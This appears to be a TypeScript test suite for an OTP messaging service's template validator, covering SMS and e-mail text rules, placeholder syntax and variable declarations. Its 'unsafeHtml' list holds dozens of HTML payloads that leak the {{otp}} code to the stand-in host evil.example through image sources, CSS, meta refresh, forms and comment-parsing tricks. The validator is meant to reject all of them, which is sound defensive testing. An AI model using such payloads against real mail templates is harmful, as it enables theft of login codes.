import { describe, expect, test } from 'bun:test'
import { textBeforeCode } from '../../src/adapters/email/code-in-html.ts'
import { readVariable } from '../../src/domain/operator/texts.ts'
import type { DeclaredVariable } from '../../src/domain/texts/brand-texts.ts'
import { declarationProblems, type TextFields, textProblems } from '../../src/domain/texts/text-problems.ts'

function sms(text: string, templateKey = 'LOGIN_OTP'): TextFields {
  return { templateKey, channel: 'SMS', subject: null, text, html: null }
}

function mail(parts: Partial<TextFields>): TextFields {
  const valid = { subject: 'Your code', text: '{{otp}}', html: null }
  return { templateKey: 'LOGIN_OTP', channel: 'EMAIL', ...valid, ...parts }
}

const own = 'TABLE_READY'
const declared: readonly DeclaredVariable[] = [
  { name: 'guest', type: 'text', max: 30 },
  { name: 'at', type: 'datetime', max: 40 },
  { name: 'seats', type: 'number', max: 99 },
]

const longest = `{{otp}}${'x'.repeat(993)}`

describe('a text is stored (design D47)', () => {
  const valid: readonly (readonly [string, TextFields])[] = [
    ['of a code', sms('{{otp}} {{businessName}} {{minutes}}')],
    ['of a code with its loginId', sms('{{otp}} {{loginId}}', 'LOGIN_OTP_WITH_ID')],
    ['of exactly 1,000 characters', sms(longest)],
    ['of 1,000 characters outside the BMP', sms(`{{otp}}${'😀'.repeat(993)}`)],
    ['with line breaks, joiners and braces', sms('{{otp}}\n\u200d{x} {#var#} { {')],
    ['with placeholders side by side', sms('{{customerName}}{{orderId}}', 'ORDER_PLACED')],
    ['with a raw date', sms('{{orderDate:raw}}', 'ORDER_PLACED')],
    ['of a new template', sms('{{guest}} {{at}} {{at:raw}} {{seats:raw}} {{businessName}}', own)],
    ['of a new template without placeholders', sms('Hello', 'A_1')],
    ['of a mail', mail({})],
    ['of a mail with a link', mail({ text: '{{otp}} {{link}}', html: '{{otp}} <a href="{{link}}">Go</a>' })],
    ['of a transaction', sms('{{otp}} {{amount}} {{currency}} {{payee}}', 'TRANSACTION_OTP')],
    ['of a mail with HTML', mail({ subject: '{{minutes}}', html: `<b>{{otp}}</b>${'x'.repeat(19_986)}` })],
  ]
  test.each(valid)('%s', (_, fields) => {
    expect(textProblems(fields, declared, textBeforeCode)).toEqual([])
  })
})

describe('a text is rejected (design D47)', () => {
  const invalid: readonly (readonly [string, TextFields, string])[] = [
    ['empty', sms(' \n'), 'The text must not be empty.'],
    ['of 1,001 characters', sms(`${longest}x`), 'at most 1000 characters'],
    ['without the code', sms('Hello'), 'The text must have the code, {{otp}}, once.'],
    ['with the code twice', sms('{{otp}} {{otp}}'), 'The text must have the code, {{otp}}, only once.'],
    ['with {{lifetime}}', sms('{{otp}} {{lifetime}}'), 'It may have {{otp}}, {{businessName}}, {{minutes}}.'],
    ['without the payee', sms('{{otp}} {{amount}} {{currency}}', 'TRANSACTION_OTP'), 'must have {{payee}}'],
    ['with a payee', sms('{{otp}} {{payee}}'), 'must not have the placeholder {{payee}}'],
    ['with a loginId', sms('{{otp}} {{loginId}}'), 'must not have the placeholder {{loginId}}'],
    ['with a name in other letters', sms('{{OTP}} {{otp}}'), '{{OTP}}'],
    ['with a name of Object.prototype', sms('{{otp}} {{constructor}}'), '{{constructor}}'],
    ['with an undeclared variable', sms('{{name}}', own), '{{seats}} and other variables that you declare.'],
    ['with a code in a new template', sms('{{otp}}', own), 'must not have the placeholder {{otp}}'],
    ['with a variable of another template', sms('{{orderDate}}', 'OUT_FOR_DELIVERY'), '{{orderDate}}'],
    ['with spaces in a placeholder', sms('{{otp}} {{ minutes }}'), '{{ or }} outside a placeholder'],
    ['with three braces', sms('{{{otp}}}'), '{{ or }} outside a placeholder'],
    ['with an open placeholder', sms('{{otp}} {{minutes'), '{{ or }} outside a placeholder'],
    ['with closing braces', sms('{{otp}} }}'), '{{ or }} outside a placeholder'],
    ['with another suffix', sms('{{guest:long}}', own), '{{ or }} outside a placeholder'],
    ['with a raw text', sms('{{guest:raw}}', own), 'Write {{guest}}.'],
    ['with a raw code', sms('{{otp:raw}}'), 'Write {{otp}}.'],
    ['with a control character', sms('{{otp}}\u0007'), 'U+0007, a control character'],
    ['with a bidirectional control', sms('{{otp}}\u202e'), 'U+202E, an invisible character'],
    ['with half a character', sms('{{otp}}\ud83d'), 'well-formed'],
    ['of a key in lower case', sms('x', 'table_ready'), 'The template must be LOGIN_OTP,'],
    ['of a key of two characters', sms('x', 'AB'), '2 to 39 more characters'],
    ['of a key of 41 characters', sms('x', 'A'.repeat(41)), '2 to 39 more characters'],
    ['with a subject in an SMS', { ...sms('{{otp}}'), subject: 'x' }, 'Only an e-mail has'],
    ['with HTML in an SMS', { ...sms('{{otp}}'), html: 'x' }, 'Only an e-mail has'],
    [
      'of a mail of a new template',
      mail({ templateKey: own }),
      'Only LOGIN_OTP, LOGIN_OTP_WITH_ID, TRANSACTION_OTP have e-mail texts.',
    ],
    ['of a mail without a subject', mail({ subject: null }), 'The subject is required.'],
    ['of a mail with the code in the subject', mail({ subject: '{{otp}}' }), 'The subject must not have'],
    ['with a link in an SMS', sms('{{otp}} {{link}}'), 'must not have the placeholder {{link}}'],
    [
      'of a mail with the link in another element',
      mail({ text: '{{otp}}', html: '{{otp}} <link rel="stylesheet" href="{{link}}">' }),
      'only in <a href="{{link}}">',
    ],
    ['of a mail with the link in the subject', mail({ subject: '{{link}}' }), 'The subject must not have'],
    [
      'of a mail with the link in a query',
      mail({ html: '<a href="https://a.example/?{{link}}">{{otp}}</a>' }),
      'only in <a href="{{link}}">',
    ],
    ['of a mail with two lines of subject', mail({ subject: 'a\nb' }), 'must not contain line breaks'],
    ['of a mail with a long subject', mail({ subject: 'x'.repeat(256) }), 'at most 255 characters'],
    ['of a mail with HTML without the code', mail({ html: '<b>' }), 'The HTML must have the code'],
    ['of a mail with long HTML', mail({ html: `{{otp}}${'x'.repeat(20_000)}` }), 'at most 20000 characters'],
  ]
  test.each(invalid)('%s', (_, fields, problem) => {
    expect(textProblems(fields, declared, textBeforeCode).join('\n')).toContain(problem)
  })
})

/** Each loads nothing with the code in its URL. */
const safeHtml = [
  '<!doctype html><html><head><title>Code</title><style><!-- a{b:c} --></style></head><body><p title="{{businessName}}">{{otp}}</p></body></html>',
  '<script type="application/ld+json">{"a":1}</script><a href="https://acme.example">Acme</a> #{{otp}}',
  '<!--[if mso]><table><tr><td><![endif]--><p>{{otp}}</p><!--[if mso]></td></tr></table><![endif]-->',
  '<!--[if !mso]><!--><p>{{otp}}</p><!--<![endif]-->',
  '<!--[if (gte mso 9)|(IE)]><table><![endif]-->{{otp}}<!--[if (gte mso 9)|(IE)]></table><![endif]-->',
  '<!-- note --><img src="https://acme.example/logo.png" alt="a > b">Visit https://acme.example/ {{otp}}',
  '<p>{{businessName}} &lt;{{otp}}&gt; a&amp;b&#160;&#99999999;</p>',
]

const evil = 'https://evil.example/?c='
const unsafeHtml = [
  `<img src="${evil}{{otp}}">`,
  `<img src=${evil}{{otp}}>`,
  `<IMG SRC='${evil}{{otp}}'>`,
  `<img src="${evil}{{otp}}`,
  `<p>{{otp}}</p><img src="`,
  '<b title="{{otp}}">x</b>',
  '<b {{otp}}>x</b>',
  '<p>x</p {{otp}}>',
  `<style>a{background:url(${evil}{{otp}})}</style>`,
  '<script>f("{{otp}}")</script>',
  '<title>{{otp}}</title>',
  '<!-- {{otp}} -->',
  '<?xml {{otp}} ?>',
  '<![CDATA[ {{otp}} ]]>',
  `<!--><img src="${evil} -->{{otp}}">`,
  `<!---><img src="${evil} -->{{otp}}">`,
  `<!-- --!><img src="${evil} -->{{otp}}">`,
  `<title><img src="${evil}</title>{{otp}}">`,
  `<svg><style><img src="${evil}</style>{{otp}}">`,
  '<svg><text>{{otp}}</text></svg>',
  `<math><mtext><![CDATA[<img src="]]>{{otp}}">`,
  `<noscript><!--</noscript><img src="${evil}-->{{otp}}">`,
  '<template>{{otp}}</template>',
  `<form action="${evil}"><textarea name="c">{{otp}}</textarea></form>`,
  `<select><option>{{otp}}</option></select>`,
  '<iframe srcdoc="{{otp}}"></iframe>',
  `<xmp><a href="</xmp>{{otp}}">`,
  '<plaintext>{{otp}}',
  `<meta http-equiv="refresh" content="0;url=${evil}{{otp}}">`,
  '<!--[if mso]>{{otp}}<![endif]-->',
  `<!--[if mso]><img src="${evil}<![endif]-->{{otp}}<!--[if mso]>"><![endif]-->`,
  `<img alt="<!--[if !mso]><!-->"><!--<![endif]-->" src="${evil}{{otp}}">`,
  `<!--[if mso]><b title="--><img src='${evil}"><![endif]-->{{otp}}'>`,
  `<!-- [ if mso ]><img src="${evil}<![endif]-->{{otp}}">`,
  `<p>Open ${evil}{{otp}}</p>`,
  '<p>www.evil.example/{{otp}}</p>',
  '<p>evil.example?{{otp}}</p>',
  '<p>https&#58;//evil.example/{{otp}}</p>',
  '<p>www&#x2E;evil.example&sol;{{otp}}</p>',
  // With the businessName `img`, or `e`.
  '<{{businessName}} src="//evil.example/{{otp}}">',
  '<styl{{businessName}}>@import "//evil.example/{{otp}}";</style>',
  '</{{businessName}} {{otp}}>',
]

describe('the HTML of a mail (design D47)', () => {
  test.each(safeHtml)('may be %s', (html) => {
    expect(textProblems(mail({ html }), [], textBeforeCode)).toEqual([])
  })

  test.each(unsafeHtml)('must not be %s', (html) => {
    expect(textProblems(mail({ html }), [], textBeforeCode).join()).toContain('in displayed text')
  })

  test('must not have a placeholder that is split over tags, or has spaces', () => {
    for (const html of ['<p>{{o<b></b>tp}}</p>{{otp}}', '{{ otp }}{{otp}}'])
      expect(textProblems(mail({ html }), [], textBeforeCode).join()).toContain('outside a placeholder')
  })
})

describe('variables are declared (design D47)', () => {
  const rejected: readonly (readonly [string, readonly string[], string])[] = [
    ['21', Array.from({ length: 21 }, (_, index) => `v${index}:text:9`), 'at most 20 variables'],
    ['two of one name', ['a:text:9', 'a:url:9'], 'The variable a is declared twice.'],
    ['the code', ['otp:text:9'], 'otpost uses it'],
    ['the brand in other letters', ['BusinessName:text:9'], 'otpost uses it'],
    ['a name with a digit first', ['1a:text:9'], 'a letter, then letters, digits and _'],
    ['a name of 41 characters', [`${'a'.repeat(41)}:text:9`], '1 to 40 characters'],
    ['a text of 1,001', ['a:text:1001'], 'from 1 to 1000.'],
    ['a number beyond 1e15', ['a:number:1000000000000001'], 'from 1 to 1000000000000000.'],
  ]
  test.each(rejected)('but not %s', (_, words, problem) => {
    expect(declarationProblems(own, words.map(readVariable)).join('\n')).toContain(problem)
  })

  test('but not of a built-in template', () => {
    expect(declarationProblems('ORDER_PLACED', declared).join()).toContain('ORDER_PLACED is built in')
  })

  test('at most 20, each up to its maximum', () => {
    const words = ['a:number:1000000000000000', ...Array.from({ length: 19 }, (_, n) => `v_${n}:url:1000`)]
    expect(declarationProblems(own, words.map(readVariable))).toEqual([])
  })

  test.each([
    'a',
    'a:text',
    'a:text:0',
    'a:text:x',
    'a:text:1.5',
    'a:words:9',
    ':text:9',
    'a:text:9:9',
    'a:text:-1',
  ])('not as %p', (words) => {
    expect(() => readVariable(words)).toThrow('must be name:type:max')
  })
})
